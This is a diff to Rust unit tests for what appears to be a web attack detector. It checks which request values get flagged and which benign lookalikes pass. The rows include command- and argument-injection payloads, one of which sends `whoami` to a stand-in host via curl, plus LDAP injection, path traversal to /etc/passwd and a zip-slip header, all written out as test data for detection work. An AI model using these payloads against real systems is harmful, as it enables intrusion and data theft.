@@ -14,6 +14,18 @@ fn payloads_of_public_checks() {
         (Target::Json, "repo", "ssh://-oProxyCommand=curl x.example/y"),
         (Target::Form, "email_address", "a@localhost\t-oQ/tmp/\t-C/var/x/sendmail.cf"),
         (Target::Form, "env", "--split-string=bash -c id"),
+        (Target::Query, "name", "x -exec id \\;"),
+        (Target::Form, "name", "a.zip -T -TT 'sh #'"),
+        (Target::Form, "opts", "-XX:OnOutOfMemoryError='id' -Xmx1m"),
+        (Target::Query, "sort", "--use-compress-program=id"),
+        (Target::Form, "ttcp_ip", "-h `cd /tmp;netstat -an`"),
+        (Target::Json, "dag_run_id", "\"; curl `whoami`.x.example;\""),
+        (Target::Json, "ping", "\"; system(\"id\"); #"),
+        // What single products take.
+        (Target::Query, "Email", "autodiscover/autodiscover.json?@x.example"),
+        (Target::Query, "s", "index/\\think\\Request/input"),
+        (Target::Json, "_template", "../web.xml"),
+        (Target::Binary, "", "PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x0a\0\0\0../../a/b.x"),
         // Parts of filters of LDAP, and whole ones that are never true.
         (Target::Json, "search", "|(objectClass=user)(sAMAccountName=admin)"),
         (Target::Query, "uid", "*(objectClass=*"),
@@ -66,10 +78,53 @@ fn their_likes_of_every_day() {
         (Target::Text, "", "<foreignObject x=\"0\" y=\"0\" width=\"9\" height=\"9\"><p>x</p></foreignObject>"),
         (Target::Text, "", "<use id=\"a\" xlink:href=\"#shade\"/>"),
         (Target::Text, "", "<meta http-equiv=3D\"Content-Type\" content=3D\"text/html\">"),
+        (Target::Form, "subject", "Re: Contact | Route 41"),
+        (Target::Json, "body", "- Pa', e' arrivato l'uomo.\n- Digli\n\t-- Groucho"),
+        (Target::Form, "msg", "the scheme must be ldap://\n"),
+        (Target::Query, "q", "select url, total_count from link_stat where url='https://shop.example/'"),
+        (Target::Query, "bdref", "http://x.example//"),
+        (Target::Query, "redir", "//ads.example/sync/dsp/video/77"),
+        (Target::Query, "redirect_to", "https://x.example/admin/admin-ajax.php?action=vote"),
+        (Target::Query, "linkInternalFilters", "javascript:,x.example"),
+        (Target::Json, "sources", "../../../../../../src/models/a.ts"),
+        (Target::Json, "extraPaths", "../src"),
+        (Target::Json, "script", "@echo off\npushd %~dp0\n\nif \"%A%\" == \"\" (\n\tset A=b\n)\n"),
+        (
+            Target::Text,
+            "",
+            "<iframe width=\"480\" height=\"360\" src=\"//x.example/embed/a\" frameborder=\"0\"></iframe>",
+        ),
+        (Target::Text, "", "<use xlink:href=\"/icons.svg#share\"></use>"),
+        (Target::Path, "", "/.element/js/app.js"),
+        (Target::Path, "", "/bin/query.exe/dn"),
+        (Target::Path, "", "/a/attachments/SC/themes/x/assets/min.php"),
+        (Target::Path, "", "/forum/wh=60,60;/sign=1/a.jpg"),
         (Target::Json, "HtmlBody", "{% if (state.state in names) %}on{% endif %}"),
         (Target::Json, "body", "{% if request.user.is_authenticated %}<p>hi</p>{% endif %}"),
     ];
     for (target, name, value) in rows {
         assert_eq!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_them() {
+    let rows = [
+        (Target::Form, "subject", "Contact | sleep 41"),
+        (Target::Form, "url", "ldap://x.example/a"),
+        (Target::Query, "q", "select password from users where id=1"),
+        (Target::Query, "url", "//x.example/"),
+        (Target::Query, "theme_dir", "https://x.example/r.inc"),
+        (Target::Query, "u", "javascript:alert(1),x.example"),
+        (Target::Json, "file", "../../../../../../etc/passwd"),
+        (Target::Json, "cmd", "if \"%A%\" == \"\" (cmd)"),
+        (Target::Text, "", "<iframe width=\"0\" height=\"0\" src=\"//x.example/embed/a\"></iframe>"),
+        (Target::Path, "", "/.tool/settings.json"),
+        (Target::Path, "", "/tools/list.exe/dn"),
+        (Target::Path, "", "/attachments/2024/05/min.php"),
+        (Target::Path, "", "/forum;/a.jpg"),
+    ];
+    for (target, name, value) in rows {
+        assert_ne!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
     }
 }
